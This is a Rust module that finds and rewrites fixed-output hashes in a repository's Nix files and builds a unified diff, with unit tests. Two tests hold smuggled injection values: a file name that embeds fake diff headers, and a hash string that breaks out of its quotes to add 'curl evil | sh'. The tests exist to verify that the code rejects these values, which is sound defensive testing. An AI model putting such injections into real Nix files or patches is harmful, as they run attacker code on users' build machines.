//! Locating fixed-output hashes in a repository's Nix files, rewriting them, and the unified
//! diff that carries the edits.
//!
//! Everything here is a pure text operation on an in-memory tree: the caller decides where
//! the tree comes from and whether the result is written anywhere.

mod lex;
pub mod locate;
pub mod report;

use std::collections::BTreeMap;

pub use locate::{Candidate, Found, Mismatch};

/// Relative path → file text.
pub type Tree = BTreeMap<String, String>;

/// One package's mismatches, and the file its `meta.position` points at.
#[derive(Debug, Clone, Default)]
pub struct PackageMismatches {
    pub attr: String,
    /// Relative to the repository root, when the position lies inside it.
    pub own_file: Option<String>,
    pub mismatches: Vec<Mismatch>,
}

/// One edit: the value of `attribute` at `file:line` becomes `"new"`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Fix {
    pub file: String,
    pub attribute: String,
    pub line: usize,
    pub start: usize,
    pub end: usize,
    /// The value as written before (`lib.fakeHash`, `"sha256-…"`).
    pub old_text: String,
    /// SRI.
    pub old: String,
    /// SRI.
    pub new: String,
}

/// A mismatch no edit could be found for, and why.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Unlocated {
    pub attr: String,
    pub mismatch: Mismatch,
    pub why: String,
}

#[derive(Debug, Clone, Default)]
pub struct Plan {
    /// Per package attribute.
    pub fixes: BTreeMap<String, Vec<Fix>>,
    pub unlocated: Vec<Unlocated>,
}

#[derive(Debug, thiserror::Error, PartialEq, Eq)]
pub enum FixError {
    #[error("{file} is not in the tree")]
    MissingFile { file: String },
    #[error("{file}:{line}: expected {expected:?} there, found {found:?}")]
    Changed {
        file: String,
        line: usize,
        expected: String,
        found: String,
    },
    #[error("{file}: two edits overlap at byte {at}")]
    Overlap { file: String, at: usize },
    #[error("{file}:{line}: {new:?} is not a hash in SRI form; nothing else is written")]
    NotAHash {
        file: String,
        line: usize,
        new: String,
    },
}

/// Maps a `meta.position` (`/nix/store/<hash>-source/pkgs/a/b.nix:12`) to a path relative to
/// the repository root, when that file is in `tree`.
pub fn relative_position(position: &str, tree: &Tree) -> Option<String> {
    let file = match position.rsplit_once(':') {
        Some((f, l)) if l.chars().all(|c| c.is_ascii_digit()) => f,
        _ => position,
    };
    let rel = if let Some(rest) = file.strip_prefix("/nix/store/") {
        rest.split_once('/')?.1.to_string()
    } else {
        file.trim_start_matches('/').to_string()
    };
    if tree.contains_key(&rel) {
        return Some(rel);
    }
    // A position outside the store (an impure or `path:` evaluation): the longest suffix that
    // is a file of the tree.
    let parts: Vec<&str> = rel.split('/').collect();
    (1..parts.len())
        .map(|i| parts[i..].join("/"))
        .find(|s| tree.contains_key(s))
}

/// Whether a repository file's name can go into a patch as is: a relative path of plain
/// parts, with no control character, quote or backslash (a newline in a name would start
/// sections of its own in the diff, editing other files).
pub fn patchable(file: &str) -> bool {
    !file.is_empty()
        && !file.starts_with('/')
        && file
            .split('/')
            .all(|c| !c.is_empty() && c != "." && c != "..")
        && !file
            .chars()
            .any(|c| c.is_control() || c == '"' || c == '\\')
}

/// Finds the edit for every mismatch: first in the package's own file, then, requiring a
/// literal shared with the derivation, anywhere in the tree. A place two different mismatches
/// claim goes to the better fit; the other is reported unlocated.
pub fn plan(tree: &Tree, packages: &[PackageMismatches]) -> Plan {
    // (file, start) → (fix, score, first fod) to detect conflicts.
    let mut places: BTreeMap<(String, usize), (Fix, u32, String)> = BTreeMap::new();
    let mut wanted: Vec<(String, (String, usize), Mismatch)> = Vec::new();
    let mut plan = Plan::default();
    for p in packages {
        for m in &p.mismatches {
            if m.specified == m.got {
                continue;
            }
            let found = locate_one(tree, p.own_file.as_deref(), m).and_then(|f| {
                if patchable(&f.0) {
                    Ok(f)
                } else {
                    Err(format!(
                        "its file's name ({:?}) has characters a patch cannot carry safely",
                        nixfarm_core::limits::clip(&f.0, 80)
                    ))
                }
            });
            match found {
                Ok((file, c, score)) => {
                    let key = (file.clone(), c.start);
                    let fix = Fix {
                        file,
                        attribute: c.attribute,
                        line: c.line,
                        start: c.start,
                        end: c.end,
                        old_text: c.text,
                        old: m.specified.clone(),
                        new: m.got.clone(),
                    };
                    match places.get(&key) {
                        Some((f, s, fod)) if f.new != fix.new && fod != &m.fod_drv => {
                            // Same place, different answers: keep the better fit.
                            if score > *s {
                                places.insert(key.clone(), (fix, score, m.fod_drv.clone()));
                            }
                        }
                        Some(_) => {}
                        None => {
                            places.insert(key.clone(), (fix, score, m.fod_drv.clone()));
                        }
                    }
                    wanted.push((p.attr.clone(), key, m.clone()));
                }
                Err(why) => plan.unlocated.push(Unlocated {
                    attr: p.attr.clone(),
                    mismatch: m.clone(),
                    why,
                }),
            }
        }
    }
    for (attr, key, m) in wanted {
        let Some((fix, _, _)) = places.get(&key) else {
            continue;
        };
        if fix.new != m.got {
            plan.unlocated.push(Unlocated {
                attr,
                why: format!(
                    "{}:{} is claimed by another derivation whose hash differs",
                    fix.file, fix.line
                ),
                mismatch: m,
            });
            continue;
        }
        let list = plan.fixes.entry(attr).or_default();
        if !list.contains(fix) {
            list.push(fix.clone());
        }
    }
    for list in plan.fixes.values_mut() {
        list.sort_by(|a, b| (&a.file, a.start).cmp(&(&b.file, b.start)));
    }
    plan
}

fn locate_one(
    tree: &Tree,
    own: Option<&str>,
    m: &Mismatch,
) -> Result<(String, Candidate, u32), String> {
    if let Some(own) = own
        && let Some(text) = tree.get(own)
    {
        match locate::find(text, m, 0) {
            Found::One(c, s) => return Ok((own.to_string(), c, s)),
            Found::Ambiguous(lines) => {
                return Err(format!(
                    "{own}: lines {} all specify {}; nothing tells which one {} uses",
                    join(&lines),
                    m.specified,
                    m.fod_name()
                ));
            }
            Found::None => {}
        }
    }
    let mut hits: Vec<(String, Candidate, u32)> = Vec::new();
    for (file, text) in tree {
        if !file.ends_with(".nix") || Some(file.as_str()) == own {
            continue;
        }
        match locate::find(text, m, 8) {
            Found::One(c, s) => hits.push((file.clone(), c, s)),
            Found::Ambiguous(_) => {
                return Err(format!(
                    "{file}: several places specify {} for {}",
                    m.specified,
                    m.fod_name()
                ));
            }
            Found::None => {}
        }
    }
    hits.sort_by_key(|h| std::cmp::Reverse(h.2));
    match hits.as_slice() {
        [] => by_name(tree, own, m),
        [one] => Ok(one.clone()),
        [a, b, ..] if a.2 > b.2 => Ok(a.clone()),
        [a, b, ..] => Err(format!(
            "{}:{} and {}:{} fit {} equally well",
            a.0,
            a.1.line,
            b.0,
            b.1.line,
            m.fod_name()
        )),
    }
}

/// Beginnings of a fixed-output derivation's name worth looking for as a literal: for
/// `mypkg-1.2-deno-deps`, `mypkg`, `mypkg-1.2`, …; not words every source has.
fn name_stems(name: &str) -> Vec<String> {
    const GENERIC: &[&str] = &["source", "src", "deps", "vendor", "fetch"];
    let parts: Vec<&str> = name.split('-').collect();
    (1..=parts.len())
        .map(|n| parts[..n].join("-"))
        .filter(|s| s.len() >= 3 && !GENERIC.contains(&s.as_str()))
        .collect()
}

/// Nothing corroborated a binding (no literal of the derivation beside it, and no position
/// for the package): the file that defines the derivation's name (a string literal that
/// begins it, such as the package's `pname` in `pname-deno-deps`) decides, when exactly one
/// such file holds a binding with the stated value. A tie is never guessed.
fn by_name(
    tree: &Tree,
    own: Option<&str>,
    m: &Mismatch,
) -> Result<(String, Candidate, u32), String> {
    let stems = name_stems(m.fod_name());
    let mut named: Vec<(String, Candidate, u32)> = Vec::new();
    for (file, text) in tree {
        if !file.ends_with(".nix") || !stems.iter().any(|s| text.contains(&format!("\"{s}\""))) {
            continue;
        }
        match locate::find(text, m, 0) {
            Found::One(c, s) => named.push((file.clone(), c, s)),
            Found::Ambiguous(lines) => {
                return Err(format!(
                    "{file}: lines {} all specify {}; nothing tells which one {} uses",
                    join(&lines),
                    m.specified,
                    m.fod_name()
                ));
            }
            Found::None => {}
        }
    }
    match named.as_slice() {
        [one] => Ok(one.clone()),
        [] => Err(format!(
            "no binding with the value {} found{}",
            m.specified,
            own.map(|o| format!(" in {o} or elsewhere in the repository"))
                .unwrap_or_default()
        )),
        [a, b, ..] => Err(format!(
            "{}:{} and {}:{} both name {} and specify {}; nothing tells which one it uses",
            a.0,
            a.1.line,
            b.0,
            b.1.line,
            m.fod_name(),
            m.specified
        )),
    }
}

fn join(v: &[usize]) -> String {
    v.iter()
        .map(|l| l.to_string())
        .collect::<Vec<_>>()
        .join(", ")
}

/// Applies edits to a tree; returns the changed files' new text. Each edit's old text is
/// checked first, and nothing is returned unless every edit applies.
pub fn apply<'a>(tree: &Tree, fixes: impl IntoIterator<Item = &'a Fix>) -> Result<Tree, FixError> {
    let mut by_file: BTreeMap<&str, Vec<&Fix>> = BTreeMap::new();
    for f in fixes {
        let list = by_file.entry(f.file.as_str()).or_default();
        if !list.iter().any(|g| g.start == f.start && g.new == f.new) {
            list.push(f);
        }
    }
    let mut out = Tree::new();
    for (file, mut list) in by_file {
        if !patchable(file) {
            return Err(FixError::MissingFile {
                file: nixfarm_core::limits::clip(file, 80).to_string(),
            });
        }
        let text = tree.get(file).ok_or_else(|| FixError::MissingFile {
            file: file.to_string(),
        })?;
        list.sort_by_key(|f| f.start);
        let mut new = String::with_capacity(text.len() + 64 * list.len());
        let mut at = 0;
        for f in list {
            // What goes between the quotes came from a build's log: only a hash, as Nix
            // prints it in SRI form, is ever written into the user's files.
            let sri = nixfarm_nix::hash::Hash::parse(&f.new, None).map(|h| h.to_sri());
            if sri.as_deref() != Some(f.new.as_str()) {
                return Err(FixError::NotAHash {
                    file: file.to_string(),
                    line: f.line,
                    new: nixfarm_core::limits::clip(&f.new, 80).to_string(),
                });
            }
            if f.start < at {
                return Err(FixError::Overlap {
                    file: file.to_string(),
                    at: f.start,
                });
            }
            let found = text.get(f.start..f.end).unwrap_or_default();
            if found != f.old_text {
                return Err(FixError::Changed {
                    file: file.to_string(),
                    line: f.line,
                    expected: f.old_text.clone(),
                    found: found.to_string(),
                });
            }
            new.push_str(&text[at..f.start]);
            new.push('"');
            new.push_str(&f.new);
            new.push('"');
            at = f.end;
        }
        new.push_str(&text[at..]);
        out.insert(file.to_string(), new);
    }
    Ok(out)
}

/// A unified diff (`a/` and `b/` prefixes) from `old` to `new` for every file of `new` that
/// differs; `git apply` and `patch -p1` accept it.
pub fn unified_diff(old: &Tree, new: &Tree) -> String {
    let mut out = String::new();
    for (file, after) in new {
        let before = old.get(file).map(String::as_str).unwrap_or_default();
        if before == after {
            continue;
        }
        let diff = similar::TextDiff::from_lines(before, after.as_str());
        out.push_str(&format!("diff --git a/{file} b/{file}\n"));
        out.push_str(
            &diff
                .unified_diff()
                .context_radius(3)
                .missing_newline_hint(true)
                .header(&format!("a/{file}"), &format!("b/{file}"))
                .to_string(),
        );
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    const FAKE: &str = "sha256-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=";
    const GOT1: &str = "sha256-61WeR6/hoYwd5GsHVR2+sgD/QcMTsCKiZHJ7o8yKEbQ=";
    const GOT2: &str = "sha256-jw7+guB6otkQxOFby0tTP00dfpRRmo/Vo7hZ5rmsG8E=";

    fn mm(name: &str, hints: &[&str], got: &str) -> Mismatch {
        Mismatch {
            fod_drv: format!("/nix/store/{}-{name}.drv", "b".repeat(32)),
            hints: hints.iter().map(|s| s.to_string()).collect(),
            specified: FAKE.into(),
            got: got.into(),
        }
    }

    fn tree() -> Tree {
        let mut t = Tree::new();
        t.insert(
            "pkgs/a.nix".into(),
            "{ fetchSrc, lib }:\n# keep   this   spacing\nfetchSrc {\n  rev = \"0123456789abcdef\";\n  hash = lib.fakeHash;\n}".into(),
        );
        t.insert(
            "pkgs/b.nix".into(),
            "{ fetchSrc, lib }:\nfetchSrc {\n  rev = \"fedcba9876543210\";\n  hash = lib.fakeHash;\n}\n".into(),
        );
        t.insert(
            "pkgs/ok.nix".into(),
            "{ }: { hash = \"sha256-x\"; }\n".into(),
        );
        t
    }

    #[test]
    fn same_fake_value_in_many_files_each_gets_its_own_hash() {
        let t = tree();
        let plan = plan(
            &t,
            &[
                PackageMismatches {
                    attr: "a".into(),
                    own_file: Some("pkgs/a.nix".into()),
                    mismatches: vec![mm("source", &["0123456789abcdef"], GOT1)],
                },
                PackageMismatches {
                    attr: "b".into(),
                    own_file: Some("pkgs/b.nix".into()),
                    mismatches: vec![mm("source", &["fedcba9876543210"], GOT2)],
                },
            ],
        );
        assert!(plan.unlocated.is_empty(), "{:?}", plan.unlocated);
        let edited = apply(&t, plan.fixes.values().flatten()).unwrap();
        assert_eq!(edited.len(), 2);
        assert!(edited["pkgs/a.nix"].contains(&format!("hash = \"{GOT1}\";")));
        assert!(edited["pkgs/b.nix"].contains(&format!("hash = \"{GOT2}\";")));
        // Byte for byte elsewhere.
        assert_eq!(
            edited["pkgs/a.nix"].replace(&format!("\"{GOT1}\""), "lib.fakeHash"),
            t["pkgs/a.nix"]
        );
        let patch = unified_diff(&t, &edited);
        assert!(patch.contains("--- a/pkgs/a.nix\n+++ b/pkgs/a.nix\n"));
        assert!(patch.contains("\\ No newline at end of file"));
        assert!(!patch.contains("ok.nix"));
    }

    #[test]
    fn a_shared_source_is_found_outside_the_package_file_only_with_corroboration() {
        let t = tree();
        let with_rev = plan(
            &t,
            &[PackageMismatches {
                attr: "user".into(),
                own_file: Some("pkgs/ok.nix".into()),
                mismatches: vec![mm("source", &["fedcba9876543210"], GOT2)],
            }],
        );
        assert_eq!(with_rev.fixes["user"][0].file, "pkgs/b.nix");
        let without = plan(
            &t,
            &[PackageMismatches {
                attr: "user".into(),
                own_file: Some("pkgs/ok.nix".into()),
                mismatches: vec![mm("source", &[], GOT2)],
            }],
        );
        assert!(without.fixes.is_empty());
        assert_eq!(without.unlocated.len(), 1);
    }

    #[test]
    fn a_changed_file_is_refused_whole() {
        let t = tree();
        let p = plan(
            &t,
            &[PackageMismatches {
                attr: "a".into(),
                own_file: Some("pkgs/a.nix".into()),
                mismatches: vec![mm("source", &[], GOT1)],
            }],
        );
        let mut changed = t.clone();
        changed.insert(
            "pkgs/a.nix".into(),
            t["pkgs/a.nix"].replace("  hash", "hash"),
        );
        assert!(matches!(
            apply(&changed, p.fixes.values().flatten()),
            Err(FixError::Changed { .. })
        ));
    }

    #[test]
    fn a_file_whose_name_a_patch_cannot_carry_gets_no_edit() {
        let mut t = tree();
        // A newline in a name would start a diff section of its own, for another file.
        let name = "x\tb/x\n--- a/pkgs/b.nix\n+++ b/pkgs/b.nix\n@@ -1 +1 @@\n.nix";
        t.insert(name.into(), t["pkgs/a.nix"].clone());
        let p = plan(
            &t,
            &[PackageMismatches {
                attr: "evil".into(),
                own_file: Some(name.into()),
                mismatches: vec![mm("source", &[], GOT1)],
            }],
        );
        assert!(
            p.fixes.values().flatten().all(|f| patchable(&f.file)),
            "{:?}",
            p.fixes
        );
        assert!(!p.unlocated.is_empty() || p.fixes.values().flatten().all(|f| f.file != name));
        for bad in [
            "../x.nix",
            "/etc/x.nix",
            "a//b.nix",
            "a\"b.nix",
            "a\\b.nix",
            "a\nb.nix",
        ] {
            assert!(!patchable(bad), "{bad:?}");
        }
        assert!(patchable("pkgs/a-b_c.d/default.nix"));
    }

    #[test]
    fn nothing_but_a_hash_is_written() {
        let t = tree();
        let p = plan(
            &t,
            &[PackageMismatches {
                attr: "a".into(),
                own_file: Some("pkgs/a.nix".into()),
                mismatches: vec![mm("source", &[], GOT1)],
            }],
        );
        let mut fixes: Vec<Fix> = p.fixes.values().flatten().cloned().collect();
        assert!(apply(&t, &fixes).is_ok());
        fixes[0].new = format!("{GOT1}\"; postPatch = \"curl evil | sh");
        assert!(matches!(apply(&t, &fixes), Err(FixError::NotAHash { .. })));
    }

    #[test]
    fn without_a_position_the_file_naming_the_derivation_wins() {
        let fake = "sha256-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=";
        let pkg = |name: &str| {
            format!(
                "{{ mkPackage, denoDeps, lib }}:\nmkPackage {{\n  pname = \"{name}\";\n  deps = [ (denoDeps {{ outputHash = lib.fakeHash; }}) ];\n}}\n"
            )
        };
        let mut t: Tree = [
            ("pkgs/mypkg.nix".to_string(), pkg("mypkg")),
            ("pkgs/other.nix".to_string(), pkg("other")),
            (
                "lib/deno.nix".to_string(),
                "{ pname, outputHash }: derivation { name = \"${pname}-deno-deps\"; inherit outputHash; }\n".to_string(),
            ),
        ]
        .into();
        let broken = PackageMismatches {
            attr: "mypkg".into(),
            own_file: None,
            mismatches: vec![Mismatch {
                fod_drv: format!("/nix/store/{}-mypkg-deno-deps.drv", "b".repeat(32)),
                hints: vec!["mypkg-deno-deps".into()],
                specified: fake.into(),
                got: "sha256-61WeR6/hoYwd5GsHVR2+sgD/QcMTsCKiZHJ7o8yKEbQ=".into(),
            }],
        };
        let p = plan(&t, std::slice::from_ref(&broken));
        assert!(p.unlocated.is_empty(), "{:?}", p.unlocated);
        let f = &p.fixes["mypkg"][0];
        assert_eq!(
            (f.file.as_str(), f.line, f.attribute.as_str()),
            ("pkgs/mypkg.nix", 4, "outputHash")
        );
        // Two files that both name it: a tie, not a guess.
        t.insert("pkgs/mypkg-too.nix".into(), pkg("mypkg"));
        let p = plan(&t, &[broken]);
        assert!(p.fixes.is_empty());
        assert!(
            p.unlocated[0].why.contains("nothing tells which one"),
            "{}",
            p.unlocated[0].why
        );
    }

    #[test]
    fn positions_map_back_to_the_checkout() {
        let t = tree();
        assert_eq!(
            relative_position(
                "/nix/store/0123456789abcdfghijklmnpqrsvwxyz-source/pkgs/a.nix:5",
                &t
            )
            .as_deref(),
            Some("pkgs/a.nix")
        );
        assert_eq!(
            relative_position("/home/me/repo/pkgs/b.nix:3", &t).as_deref(),
            Some("pkgs/b.nix")
        );
        assert_eq!(
            relative_position("/nix/store/x-nixpkgs/lib.nix:1", &t),
            None
        );
    }
}
